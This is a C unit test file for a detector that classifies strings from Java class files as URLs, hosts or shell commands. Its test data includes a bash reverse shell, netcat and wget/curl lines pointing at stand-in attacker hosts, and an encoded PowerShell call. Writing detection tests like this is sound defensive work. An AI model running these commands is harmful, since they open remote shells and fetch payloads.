/* SPDX-License-Identifier: GPL-2.0-or-later */
#include "inspect/javaclass_text.h"

#include <setjmp.h>
#include <stdarg.h>
#include <stdlib.h>

#include <cmocka.h>

static const struct java_text_context nothing, runs = {.runs_programs = true}, connects = {.connects = true};

static enum java_text judge(const char *text, struct java_text_context context)
{
    size_t len = strlen(text);
    uint8_t *exact = memcpy(malloc(len + !len), text, len);
    enum java_text got = java_text_judge(bytes_of(exact, len), context);

    free(exact);
    return got;
}

static void urls(void **state)
{
    (void)state;
    assert_int_equal(judge("http://203.0.113.9:8000/a", nothing), JAVA_TEXT_URL);
    assert_int_equal(judge("ldap://x/", nothing), JAVA_TEXT_URL);
    assert_int_equal(judge("jar+x://y", nothing), JAVA_TEXT_URL);
    assert_int_equal(judge("://x", nothing), JAVA_TEXT_PLAIN);
    assert_int_equal(judge("http://", nothing), JAVA_TEXT_PLAIN);
    assert_int_equal(judge("a scheme ://x", nothing), JAVA_TEXT_PLAIN);
    assert_int_equal(judge("averyverylongword://x", nothing), JAVA_TEXT_PLAIN);
}

static void hosts(void **state)
{
    (void)state;
    assert_int_equal(judge("203.0.113.9", nothing), JAVA_TEXT_HOST);
    assert_int_equal(judge(" 203.0.113.9\n", nothing), JAVA_TEXT_HOST);
    assert_int_equal(judge("203.0.113.999", nothing), JAVA_TEXT_PLAIN);
    assert_int_equal(judge("evil.example", nothing), JAVA_TEXT_PLAIN); /* could be anything */
    assert_int_equal(judge("evil.example", connects), JAVA_TEXT_HOST);
    assert_int_equal(judge("os.name", connects), JAVA_TEXT_PLAIN);
    assert_int_equal(judge("java.version", connects), JAVA_TEXT_PLAIN);
    assert_int_equal(judge("evil..example", connects), JAVA_TEXT_PLAIN);
    assert_int_equal(judge("evil.example.", connects), JAVA_TEXT_PLAIN);
    assert_int_equal(judge("Evil.example", connects), JAVA_TEXT_PLAIN);
    assert_int_equal(judge("1.5", connects), JAVA_TEXT_PLAIN);
    assert_int_equal(judge("203.0.113.9:4444", nothing), JAVA_TEXT_HOST);
    assert_int_equal(judge("evil.example:4444", nothing), JAVA_TEXT_HOST); /* the port says what it is */
    assert_int_equal(judge("[2001:db8::9]:4444", nothing), JAVA_TEXT_HOST);
    assert_int_equal(judge("evil.example:0", nothing), JAVA_TEXT_PLAIN);
    assert_int_equal(judge("evil.example:65536", connects), JAVA_TEXT_PLAIN);
    assert_int_equal(judge("log4j.level:4444", nothing), JAVA_TEXT_PLAIN);
    assert_int_equal(judge("[evil]:4444", nothing), JAVA_TEXT_PLAIN);
    assert_int_equal(judge("12:30", connects), JAVA_TEXT_PLAIN);
    assert_int_equal(judge("key.name:", connects), JAVA_TEXT_PLAIN);
}

static void commands(void **state)
{
    static const char *const always[] = {"/bin/sh",
                                         "bash -i >& /dev/tcp/203.0.113.9/4444 0>&1",
                                         "cmd.exe",
                                         "Runtime.getRuntime().exec('x')",
                                         "PowerShell -enc AAAA",
                                         "nc 203.0.113.9 4444",
                                         "cd /tmp;wget evil.example/x",
                                         "/usr/bin/curl evil.example"};
    static const char *const words[] = {"sync 4.5", "nc", "wget nothing", "curl ", "func 1.2"};
    static const char *const when_it_runs[] = {"touch /tmp/pwned\n", "calc", "whoami", "/tmp/x",
                                               "C:\\x.bat",          "id"};
    static const char *const never[] = {"/", "-c", "/C", "os.name", "win", "", " ", "a", "x ", " x"};

    (void)state;
    for (size_t i = 0; i < sizeof always / sizeof always[0]; i++)
        assert_int_equal(judge(always[i], nothing), JAVA_TEXT_COMMAND);
    for (size_t i = 0; i < sizeof words / sizeof words[0]; i++)
        assert_int_equal(judge(words[i], nothing), JAVA_TEXT_PLAIN);
    for (size_t i = 0; i < sizeof when_it_runs / sizeof when_it_runs[0]; i++) {
        assert_int_equal(judge(when_it_runs[i], nothing), JAVA_TEXT_PLAIN);
        assert_int_equal(judge(when_it_runs[i], runs), JAVA_TEXT_COMMAND);
    }
    for (size_t i = 0; i < sizeof never / sizeof never[0]; i++)
        assert_int_equal(judge(never[i], runs), JAVA_TEXT_PLAIN);
}

/* Only the beginning of a text is looked at. */
static void long_texts(void **state)
{
    static char text[4096];

    (void)state;
    memset(text, 'a', sizeof text - 1);
    memcpy(text + JAVA_TEXT_SHOWN, "/bin/sh", 7);
    assert_int_equal(judge(text, nothing), JAVA_TEXT_PLAIN);
    memcpy(text + JAVA_TEXT_SHOWN - 7, "/bin/sh", 7);
    assert_int_equal(judge(text, nothing), JAVA_TEXT_COMMAND);
}

int main(void)
{
    const struct CMUnitTest tests[] = {
        cmocka_unit_test(urls),
        cmocka_unit_test(hosts),
        cmocka_unit_test(commands),
        cmocka_unit_test(long_texts),
    };

    return cmocka_run_group_tests(tests, NULL, NULL);
}
